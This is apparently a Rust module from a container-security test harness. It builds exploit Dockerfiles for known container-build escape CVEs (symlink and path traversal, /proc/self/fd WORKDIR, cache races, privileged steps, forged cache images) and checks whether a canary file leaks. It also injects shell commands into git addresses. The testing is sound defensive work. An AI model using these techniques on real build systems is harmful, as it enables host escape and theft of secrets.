//! Dockerfiles and what they are built from.

use std::{fs, process::Command};

use tests::engine::Said;

use crate::{
    attack::{Attack, Outcome, SECRET, Scene},
    files::image,
};

const FAMILY: &str = "builds";
const NAIVE: &str = "the path joined to the root's";

pub(crate) fn attacks() -> Vec<Attack> {
    let attack = |name: &str, cve, off, act: fn(&Scene) -> Outcome| {
        Attack::new((FAMILY, name), cve, off, move |scene| {
            if scene.target.is_engine() { act(scene) } else { Outcome::Not("it builds nothing".to_owned()) }
        })
    };
    let reads = reading;
    vec![
        reads("WORKDIR is a directory that the engine has open", "CVE-2024-21626", |scene| {
            let look = |at| {
                format!("WORKDIR /proc/self/fd/{at}\nRUN cat ../../../../../../..{}/secret\n", scene.canary().display())
            };
            (3..28).map(look).collect::<Vec<_>>().join("FROM bb\n")
        }),
        reads("WORKDIR is behind a link out", "CVE-2024-21626", |scene| {
            format!("RUN ln -s {} /out\nWORKDIR /out\nRUN cat secret; pwd; ls\n", scene.canary().display())
        }),
        reads("a bind's source is a link out", "CVE-2024-1753", |scene| {
            let canary = scene.canary();
            let image = image(scene, "evil", |maker| {
                maker
                    .symlink("link", canary.to_str().expect("UTF-8"))
                    .symlink("up", format!("../../../../../..{}", canary.display()))
            });
            format!(
                "RUN --mount=type=bind,from={image},source=/link,target=/m cat /m/secret\n\
                 FROM bb\nRUN --mount=type=bind,from={image},source=/up,target=/m cat /m/secret\n\
                 FROM bb\nRUN --mount=type=bind,from={image},source=/../../../../..{0},target=/m cat /m/secret\n\
                 FROM bb\nRUN --mount=type=bind,source=../../../../../../..{0},target=/m cat /m/secret\n",
                canary.display()
            )
        }),
        reads("a cache's source is a link out", "CVE-2024-9675", |scene| {
            let id = scene.name("cache");
            format!(
                "RUN --mount=type=cache,id={id},target=/c ln -sfn {0} /c/link\n\
                 RUN --mount=type=cache,id={id},source=/link,target=/m cat /m/secret\n\
                 FROM bb\nRUN --mount=type=cache,id={id}b,source=../../../../../../../..{0},target=/m cat /m/secret\n\
                 FROM bb\nRUN --mount=type=cache,id=../../../../../../../../../..{0},target=/m cat /m/secret\n",
                scene.canary().display()
            )
        }),
        reads("a copy from a link out", "CVE-2018-15664", |scene| {
            let canary = scene.canary();
            let image = image(scene, "evil", |maker| maker.symlink("link", canary.to_str().expect("UTF-8")));
            format!(
                "COPY --from={image} /link/secret /s\nRUN cat /s\nFROM bb\nCOPY --from={image} /link/ /d/\nRUN cat /d/secret\n"
            )
        }),
        reads("a copy from beyond the context", "CVE-2014-6407", |scene| {
            format!(
                "COPY ../canary/secret /s\nRUN cat /s\nFROM bb\nCOPY link /s\nRUN cat /s\nFROM bb\nADD {}/secret /s\nRUN cat /s\n",
                scene.canary().display()
            )
        }),
        reads("a secret that nobody gave", "", |scene| {
            format!(
                "RUN --mount=type=secret,id=../../../../../..{0}/secret cat /run/secrets/*\nFROM bb\nRUN --mount=type=secret,id={0}/secret,target=/s,required=false cat /s\n",
                scene.canary().display()
            )
        }),
        attack("a copy to a link out", "CVE-2018-15664", NAIVE, copy_out),
        attack("what a mount was made on is removed behind a link", "CVE-2024-23652", NAIVE, cleaned),
        attack("a cache's part changes places with a link, from another stage", "CVE-2024-23651", NAIVE, cache_race),
        attack("a step takes all rights", "CVE-2024-23653", "--privileged", entitled),
        attack("a step takes the host's network and its ids", "", "--allow network.host", host_network),
        attack("the Dockerfile of an archive is a link out", "", NAIVE, linked_dockerfile),
        attack("a repository of the host's is added", "", "git, as the user has it", host_repository),
        attack("an address with an option of git's in it", "CVE-2019-13139", "a shell", git_option),
        attack("an image says that it is the cache of a step", "CVE-2024-24557", "the cache found by history", forged),
    ]
}

fn reading(name: &str, cve: &'static str, act: fn(&Scene) -> String) -> Attack {
    Attack::new((FAMILY, name), cve, NAIVE, move |scene| {
        if !scene.target.is_engine() {
            return Outcome::Not("it builds nothing".to_owned());
        }
        if !scene.is_on() {
            let root = scene.path("root");
            fs::create_dir(&root).expect("mkdir");
            std::os::unix::fs::symlink(scene.canary(), root.join("link")).expect("symlink");
            let read = fs::read_to_string(root.join("link/secret")).unwrap_or_default();
            return Outcome::of(Scene::tells(&read), read);
        }
        // Each FROM is tried by itself: the first that fails would end the others.
        let mut all = String::new();
        for stage in act(scene).split("FROM bb\n").filter(|stage| !stage.is_empty()) {
            let said = build(scene, &format!("FROM bb\n{stage}"));
            all += &(said.out + &said.err);
        }
        // Dockerfiles name the canary's path, never what is in it.
        Outcome::of(Scene::tells(&all), all)
    })
}

/// Builds a Dockerfile in a directory with a link to the canary's file.
fn build(scene: &Scene, dockerfile: &str) -> Said {
    let context = scene.path("context");
    let _ = fs::create_dir(&context);
    let _ = std::os::unix::fs::symlink("../canary/secret", context.join("link"));
    fs::write(context.join("file"), "of the context").expect("write");
    fs::write(context.join("Dockerfile"), dockerfile).expect("write");
    let tag = scene.name("built");
    scene.target.engine(&["build", "--no-cache", "--progress", "plain", "-t", &tag, context.to_str().expect("UTF-8")])
}

fn copy_out(scene: &Scene) -> Outcome {
    let canary = scene.canary();
    if !scene.is_on() {
        let link = scene.path("link");
        std::os::unix::fs::symlink(&canary, &link).expect("symlink");
        fs::write(link.join("file"), "x").expect("write");
        return Outcome::of(!scene.is_canary_intact(), "written");
    }
    let up = format!("../../../../../../..{}", canary.display());
    let mut all = String::new();
    for (link, to) in [(canary.to_str().expect("UTF-8"), "/out/"), (&up, "/out/"), (&up, "/out/x/y"), (&up, "/out")] {
        let said = build(scene, &format!("FROM bb\nRUN ln -s {link} /out\nCOPY file {to}\n"));
        all += &said.err;
    }
    all += &build(
        scene,
        &format!("FROM bb\nCOPY file {up}/x\nWORKDIR {up}/y\nRUN ln -s {up} /o\nADD --chmod=777 file /o/\n"),
    )
    .err;
    Outcome::of(!scene.is_canary_intact(), all)
}

/// The engine makes `/a/b` to mount a cache on it; the step puts a link in the place of `/a`.
fn cleaned(scene: &Scene) -> Outcome {
    let empty = scene.canary().join("b");
    fs::create_dir(&empty).expect("mkdir");
    let canary = scene.canary();
    if !scene.is_on() {
        let link = scene.path("a");
        std::os::unix::fs::symlink(&canary, &link).expect("symlink");
        let _ = fs::remove_dir(link.join("b"));
        return Outcome::of(!empty.exists(), "removed");
    }
    let canary = canary.display();
    let said = build(
        scene,
        &format!(
            "FROM bb\n\
             RUN --mount=type=cache,target=/a/b/c umount /a/b/c 2>/dev/null; mv /a /z; ln -s {canary} /a; exit 0\n\
             RUN --mount=type=tmpfs,target=/t/b umount /t/b 2>/dev/null; mv /t /y; ln -s {canary} /t; exit 0\n\
             RUN --mount=type=bind,source=file,target=/f/secret mv /f /x; ln -s {canary} /f; exit 0\n"
        ),
    );
    let kept = fs::remove_dir(&empty).is_ok();
    Outcome::of(!kept || !scene.is_canary_intact(), said.err)
}

fn cache_race(scene: &Scene) -> Outcome {
    let canary = scene.canary();
    if !scene.is_on() {
        let root = scene.path("root");
        fs::create_dir(&root).expect("mkdir");
        std::os::unix::fs::symlink(&canary, root.join("sub")).expect("symlink");
        let read = fs::read_to_string(root.join("sub/secret")).unwrap_or_default();
        return Outcome::of(Scene::tells(&read), read);
    }
    let id = scene.name("race");
    let attempt = |at| format!("RUN --mount=type=cache,id={id},source=sub,target=/m cat /m/secret || true; : {at}\n");
    let tries = (0..12).map(attempt).collect::<Vec<_>>().concat();
    let dockerfile = format!(
        "FROM bb AS swap\n\
         RUN --mount=type=cache,id={id},target=/c mkdir -p /c/sub; ln -sfn {0} /c/link; timeout 3 /attack/probe swap /c/sub /c/link; exit 0\n\
         RUN touch /done\nFROM bb AS look\n{tries}RUN touch /done\nFROM bb\nCOPY --from=swap /done /a\nCOPY --from=look /done /b\n",
        canary.display()
    );
    let said = build(scene, &dockerfile);
    let all = said.out + &said.err;
    Outcome::of(Scene::tells(&all) || !scene.is_canary_intact(), all)
}

fn entitled(scene: &Scene) -> Outcome {
    let look = "if mount -t tmpfs none /tmp; then echo got-${none}out; fi";
    if !scene.is_on() {
        let said = scene.target.engine(&["run", "--rm", "--privileged", "bb", "sh", "-c", look]);
        return Outcome::of(said.out.contains("got-out"), said.err);
    }
    let all = [
        build(scene, &format!("FROM bb\nRUN --security=insecure {look}\n")),
        build(scene, &format!("# syntax=docker/dockerfile:1-labs\nFROM bb\nRUN --security=insecure {look}\n")),
        build(scene, &format!("FROM bb\nRUN {look}\n")),
    ];
    let all: String = all.into_iter().map(|said| said.out + &said.err).collect();
    Outcome::of(all.contains("got-out"), all)
}

fn host_network(scene: &Scene) -> Outcome {
    let context = scene.path("context");
    fs::create_dir(&context).expect("mkdir");
    let here = fs::read_link("/proc/self/ns/net").expect("a namespace");
    let look = "RUN --network=host readlink /proc/self/ns/net; cat /proc/self/uid_map\n";
    fs::write(context.join("Dockerfile"), format!("FROM bb\n{look}FROM bb AS base\nONBUILD {look}FROM base\n"))
        .expect("write");
    let allow: &[&str] = if scene.is_on() { &[] } else { &["--allow", "network.host"] };
    let flags = ["build", "--no-cache", "--progress", "plain", "--network", "none"];
    let place = context.to_str().expect("UTF-8");
    let mut all = String::new();
    for target in ["0", "2"] {
        let said = scene.target.engine(&[&flags[..], allow, &["--target", target, place]].concat());
        all += &(said.out + &said.err);
    }
    Outcome::of(all.contains(&*here.to_string_lossy()), all)
}

/// Its text is in what is said of the first line that is no instruction.
fn linked_dockerfile(scene: &Scene) -> Outcome {
    let secret = scene.canary().join("secret");
    if !scene.is_on() {
        let read = fs::read_to_string(secret).unwrap_or_default();
        return Outcome::of(Scene::tells(&read), read);
    }
    let up = format!("../../../../../../../..{}", secret.display());
    let mut all = String::new();
    for (link, flags) in [(secret.to_str().expect("UTF-8"), &[][..]), (&up, &[]), (&up, &["-f", "Dockerfile"])] {
        let archive = tests::archive::Maker::default().symlink("Dockerfile", link).end();
        let command = scene.target.command(&[&["build"], flags, &["-"]].concat());
        let said = tests::engine::said(&tests::engine::output(command, &archive));
        all += &(said.out + &said.err);
    }
    let outside = ["build", "-f", secret.to_str().expect("UTF-8"), "-"];
    let archive = tests::archive::Maker::default().file("file", b"x").end();
    let said = tests::engine::said(&tests::engine::output(scene.target.command(&outside), &archive));
    all += &(said.out + &said.err);
    Outcome::of(Scene::tells(&all), all)
}

fn host_repository(scene: &Scene) -> Outcome {
    let repository = scene.path("host.git");
    fs::create_dir(&repository).expect("mkdir");
    fs::copy(scene.canary().join("secret"), repository.join("secret")).expect("copy");
    let git = |words: &[&str]| {
        let mut command = Command::new("git");
        command.current_dir(&repository).args(["-c", "user.name=n", "-c", "user.email=e"]).args(words);
        assert!(command.status().expect("git").success(), "{words:?}");
    };
    git(&["init", "--quiet"]);
    git(&["add", "."]);
    git(&["commit", "--quiet", "-m", "one"]);
    if !scene.is_on() {
        let clone = scene.path("clone");
        let address = format!("file://{}", repository.display());
        git(&["clone", "--quiet", &address, clone.to_str().expect("UTF-8")]);
        let read = fs::read_to_string(clone.join("secret")).unwrap_or_default();
        return Outcome::of(Scene::tells(&read), read);
    }
    let all = build(scene, &format!("FROM bb\nADD file://{} /x\nRUN cat /x/secret\n", repository.display()));
    Outcome::of(Scene::tells(&(all.out.clone() + &all.err)), all.out + &all.err)
}

fn git_option(scene: &Scene) -> Outcome {
    let made = scene.canary().join("made");
    let command = format!("touch {}", made.display());
    if !scene.is_on() {
        let _ = Command::new("sh").args(["-c", &command]).status();
        return Outcome::of(made.exists(), "made");
    }
    let mut all = String::new();
    for address in [
        format!("git@127.0.0.1:x.git#--upload-pack={command};:"),
        format!("git://127.0.0.1:1/--upload-pack={command}"),
        format!("ssh://-oProxyCommand={command}/x.git"),
        format!("ext::sh -c {command}"),
    ] {
        all += &scene.target.engine(&["build", &address]).err;
        all += &build(scene, &format!("FROM bb\nADD [\"{address}\", \"/x\"]\n")).err;
    }
    Outcome::of(!scene.is_canary_intact(), all)
}

/// An image that says of itself that `RUN true` on top of the base made it, with another file in it.
fn forged(scene: &Scene) -> Outcome {
    let step = format!("echo step-{}", scene.id);
    if !scene.is_on() {
        let history = [("RUN", step.as_str(), "forged")];
        let found = history.iter().find(|(_, command, _)| *command == step);
        return Outcome::of(found.is_some_and(|(.., file)| *file == "forged"), "the file of the image");
    }
    let first = build(scene, &format!("FROM bb\nRUN {step}\n"));
    let (archive, tag) = (scene.path("saved.tar"), scene.name("built"));
    scene.target.engine(&["save", "-o", archive.to_str().expect("UTF-8"), &tag]).ok();
    // The same configuration and history, over a layer with one file more.
    let add = |maker: tests::archive::Maker| maker.file("forged", SECRET.as_bytes());
    let other = image(scene, "forged", add);
    scene.target.engine(&["tag", &other, &tag]).ok();
    let context = scene.path("context");
    let again = scene.target.engine(&["build", "-q", "-t", &tag, context.to_str().expect("UTF-8")]);
    let look = scene.target.engine(&["run", "--rm", &tag, "cat", "/forged"]);
    Outcome::of(Scene::tells(&look.out), first.err + &again.err)
}
